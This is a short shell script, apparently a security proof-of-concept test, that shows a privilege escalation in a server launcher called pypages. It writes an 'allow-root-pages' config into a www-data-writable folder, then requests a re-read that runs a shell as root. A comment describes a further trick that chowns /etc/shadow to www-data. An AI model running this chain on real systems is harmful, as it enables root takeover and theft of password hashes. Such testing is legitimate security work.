#!/bin/sh
# R6: the launcher (root) reads its policy from the command line AND pypages.yaml in its
# working folder (the supervisor's), and reads it again whenever the server child says
# {pypages:'reread'}. If that folder is one www-data can write (say the operator ran
# `cd /var/www && sudo pypages .` with /var/www www-data's, a common Debian habit), the
# compromised child writes pypages.yaml with allow-root-pages, asks for a re-read, and
# starts a process as root. (A restart of the child, which it can cause by exiting,
# re-reads it too; and the supervisor's SIGHUP re-read takes log files from it, which
# it then chowns to www-data: access-log: /etc/shadow.)
set -eu
here=$(cd "$(dirname "$0")" && pwd)
cwd=$(mktemp -d /tmp/rv-cwd-XXXXXX); chown www-data "$cwd"; chmod 755 "$cwd"
req=$(mktemp /tmp/rv-req-XXXXXX)
trap 'rm -rf "$req" "$cwd"' EXIT
cat >"$req" <<J
[{"pypages":"reread"},
 {"pypages":"start","id":1,"python":"/bin/sh","args":["-c","id"],"cwd":"/","env":{},"user":null}]
J
# once serving, as www-data (the compromised child's doing), then the requests:
BEFORE="su -s /bin/sh www-data -c \"printf 'allow-root-pages: true\\n' > $cwd/pypages.yaml\"" \
RUN_CWD=$cwd "$here/run-hostile.sh" "$req" | grep -v '"pipe"'
